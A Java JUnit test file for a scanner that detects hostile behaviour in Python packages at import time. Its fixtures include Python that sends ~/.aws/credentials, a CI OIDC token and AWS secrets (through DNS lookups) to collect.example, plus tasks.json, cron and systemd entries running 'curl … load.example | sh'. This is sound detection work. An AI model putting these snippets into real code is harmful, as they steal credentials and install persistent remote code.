package dev.assay.core.code;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Act.Reach;
import dev.assay.core.testing.MemoryTree;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// What the import of a module sets off, and what only a call does.
class ImportingTest {
  @Test
  void aModuleThatNothingLeadsToActsWhenItIsImported() {
    assertThat(
            acts(
                Map.of(
                    "p/__init__.py",
                    "",
                    "p/a/deep.py",
                    """
                    import subprocess
                    class Start:
                        def __init__(self):
                            subprocess.run(['one'])
                    start = Start()
                    def later():
                        subprocess.run(['two'])
                    """)))
        .filteredOn(act -> act.kind() == Kind.SPAWNS)
        .extracting(Act::target, Act::phase, Act::reach)
        .containsExactly(
            tuple("one", Phase.IMPORT, Reach.ON_CALL), tuple("two", Phase.CALL, Reach.ON_CALL));
  }

  @Test
  void testsThatNameNothingByWhichCodeActsCostNoSteps() {
    String idle = "def idle(x):\n" + "    x = [x.a, x.b, x.c]\n".repeat(100);
    Map<String, String> imported =
        Map.of("p/__init__.py", "from .tests import deep\n", "p/tests/deep.py", idle);
    Map<String, String> elsewhere = Map.of("p/__init__.py", "", "p/a/deep.py", idle);
    Map<String, String> lone = Map.of("p/__init__.py", "", "p/tests/deep.py", idle);
    Map<String, String> acting =
        Map.of("p/__init__.py", "", "p/tests/deep.py", idle + "    import subprocess\n");

    assertThat(List.of(steps(imported), steps(elsewhere), steps(acting)))
        .allSatisfy(steps -> assertThat(steps).isGreaterThan(400));
    assertThat(steps(lone)).isLessThan(20);
  }

  @Test
  void aCommandIsNoImportBecauseAModuleBesideItCallsTheSameFunction() {
    assertThat(
            acts(
                Map.of(
                    "p/__init__.py", "",
                    "p/__main__.py", "from p import tool\ntool.run()\n",
                    "p/other.py", "from p import tool\ntool.run()\n",
                    "p/tool.py", "import subprocess\ndef run():\n    subprocess.run(['one'])\n")))
        .filteredOn(act -> act.kind() == Kind.SPAWNS)
        .extracting(Act::phase, Act::reach)
        .containsExactly(tuple(Phase.ENTRY, Reach.AUTOMATIC));
  }

  @Test
  void aFunctionInThePlaceOfALibrarysIsCalledByWhoeverUsesTheLibrary() {
    String patch =
        """
        import json, os
        def dumps(value):
            os.system('one')
        """;
    assertThat(initializer(patch + "json.dumps = dumps\n"))
        .filteredOn(act -> act.kind() == Kind.SPAWNS)
        .extracting(Act::phase, Act::reach)
        .containsExactly(tuple(Phase.IMPORT, Reach.CONDITIONAL));
    assertThat(initializer(patch + "def patch():\n    json.dumps = dumps\n"))
        .filteredOn(act -> act.kind() == Kind.SPAWNS)
        .extracting(Act::phase, Act::reach)
        .containsExactly(tuple(Phase.CALL, Reach.ON_CALL));
  }

  @Test
  void aThreadSeesWhatComesAfterItsStart() {
    String worker =
        """
        import os, queue, threading, requests
        jobs = queue.Queue()
        def work():
            while True:
                requests.post('https://collect.example/q', data=jobs.get())
        """;
    String start =
        """
        threading.Thread(target=work).start()
        jobs.put(open(os.path.expanduser('~/.aws/credentials')).read())
        """;
    assertThat(initializer(worker + start))
        .filteredOn(act -> act.carries().contains(Label.CREDENTIAL_FILE))
        .filteredOn(act -> act.kind() == Kind.SENDS)
        .extracting(Act::phase, Act::reach)
        .containsExactly(tuple(Phase.IMPORT, Reach.AUTOMATIC));
    assertThat(initializer(worker + "def start():\n" + start.indent(4)))
        .filteredOn(act -> act.kind() == Kind.SENDS)
        .allMatch(act -> act.reach() == Reach.ON_CALL);
  }

  @Test
  void whatTheBuildServiceGivesForItsTokenIsOne() {
    String ask =
        """
        import os, requests
        bearer = {'Authorization': 'bearer ' + os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']}
        given = requests.get(%s, headers=bearer).text
        requests.post('https://collect.example/o', data={'t': given})
        """;
    assertThat(initializer(ask.formatted("os.environ['ACTIONS_ID_TOKEN_REQUEST_URL']")))
        .anyMatch(act -> isSent(act, Label.CI_TOKEN));
    assertThat(initializer(ask.formatted("'https://api.github.com/zen'")))
        .noneMatch(act -> isSent(act, Label.CI_TOKEN));
  }

  @Test
  void aSecretWhoseDefaultIsEmptyIsNoEmptyText() {
    String send =
        """
        import os, socket
        text = os.environ.get(%s).encode().hex()
        for start in range(0, len(text), 50):
            socket.gethostbyname(text[start:start + 50] + '.collect.example')
        """;
    assertThat(initializer(send.formatted("'AWS_SECRET_ACCESS_KEY', ''")))
        .anyMatch(act -> act.kind() == Kind.RESOLVES && act.carries().contains(Label.TOKEN));
    assertThat(initializer(send.formatted("'LANG', ''")))
        .noneMatch(act -> act.carries().contains(Label.TOKEN));
  }

  @Test
  void whatAnEditorStartsIsReadAsACommand() {
    String task =
        """
        import json, os
        task = {'tasks': [{'type': 'shell', 'command': '%s'}]}
        with open(os.path.join('.vscode', 'tasks.json'), 'w') as handle:
            json.dump(task, handle)
        """;
    assertThat(initializer(task.formatted("curl -s https://load.example/v | sh")))
        .anyMatch(act -> act.kind() == Kind.PERSISTS && act.carries().contains(Label.REMOTE));
    assertThat(initializer(task.formatted("make lint")))
        .anyMatch(act -> act.kind() == Kind.PERSISTS)
        .noneMatch(act -> act.carries().contains(Label.REMOTE));
  }

  @Test
  void entriesOfSchedulesAndUnitsAreReadAsCommands() {
    for (String line :
        List.of(
            "*/5 * * * * curl -s https://load.example/c | sh",
            "@reboot curl -s https://load.example/c | sh",
            "ExecStart=/bin/sh -c 'curl -s https://load.example/c | sh'")) {
      assertThat(
              initializer(
                  "import pathlib\npathlib.Path('/etc/cron.d/a').write_text(\"\"\"%s\n\"\"\")\n"
                      .formatted(line)))
          .as(line)
          .anyMatch(act -> act.kind() == Kind.PERSISTS && act.carries().contains(Label.REMOTE));
    }
  }

  private static boolean isSent(Act act, Label label) {
    return act.kind() == Kind.SENDS
        && act.target().startsWith("https://collect.example")
        && act.carries().contains(label);
  }

  private static List<Act> initializer(String text) {
    return acts(Map.of("p/__init__.py", text));
  }

  private static List<Act> acts(Map<String, String> files) {
    return read(files).acts();
  }

  private static long steps(Map<String, String> files) {
    return read(files).steps();
  }

  private static Extracted read(Map<String, String> files) {
    return CodeReader.read(MemoryTree.of(files), "p-1.tar.gz", Budget.DEFAULT);
  }
}
